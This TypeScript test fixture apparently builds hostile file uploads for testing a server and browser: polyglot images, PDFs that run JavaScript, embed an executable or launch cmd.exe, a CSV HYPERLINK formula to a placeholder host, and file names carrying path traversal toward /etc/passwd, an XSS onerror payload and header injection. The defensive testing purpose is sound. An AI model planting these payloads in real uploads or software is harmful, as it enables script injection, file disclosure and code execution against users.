// Files that are taken for what they are, though somebody else would run what is in them: every one a browser is tried with.
import { docx, PDF, PNG, pdf, png, taggedPage, text } from "./file-bodies.ts";

type Served = [what: string, name: string, contentType: string, body: Buffer];

/** With a script in each that can hold one. */
export function served(script: string): Served[] {
  const page = Buffer.from(`<!doctype html><script>${script}</script>`);
  return [
    ["an image with a page behind it", "foto.png", PNG, Buffer.concat([png, page])],
    ["an image with an archive behind it", "foto.png", PNG, Buffer.concat([png, docx()])],
    [
      "a PDF that runs a script when it is opened",
      "petição.pdf",
      PDF,
      pdf(`<< /OpenAction << /S /JavaScript /JS (${script}) >> >>`),
    ],
    [
      "a PDF with a script and a program embedded",
      "petição.pdf",
      PDF,
      pdf(
        `<< /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${script}) >>] >> /EmbeddedFiles << /Names [(a.exe) << /EF << /F 3 0 R >> >>] >> >> >>\n3 0 obj << /Type /EmbeddedFile /Length 2 >> stream\nMZ\nendstream endobj`,
      ),
    ],
    ["a PDF that sends a form elsewhere", "petição.pdf", PDF, pdf("<< /S /SubmitForm /F (http://x.example/) >>")],
    [
      "a PDF whose pages lead back to themselves",
      "petição.pdf",
      PDF,
      pdf("2 0 obj << /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >> endobj"),
    ],
    ["a PDF behind a password", "petição.pdf", PDF, pdf("trailer << /Encrypt << /Filter /Standard /V 5 /R 6 >> >>")],
    ["a PDF that launches a program", "petição.pdf", PDF, pdf("<< /AA << /O << /S /Launch /F (cmd.exe) >> >> >>")],
    ["a recording with a page in its tag", "audiência.mp3", "audio/mpeg", taggedPage(page.toString())],
    ["a table with formulas", "dados.csv", "text/csv", Buffer.from('=HYPERLINK("http://x.example","a"),@SUM(1)\n')],
    ["text of script", "notas.txt", "text/plain", Buffer.from(`${script}\n`)],
    ["a name that climbs", "..\\..\\../../../etc/passwd.txt", "text/plain", text],
    ["a name that climbs encoded", "..%2f..%2f%00.txt", "text/plain", text],
    ["a name with a script", "<img src=x onerror=alert(1)>.txt", "text/plain", text],
    ["a name with quotes", 'a"; filename="b.html".txt', "text/plain", text],
  ];
}
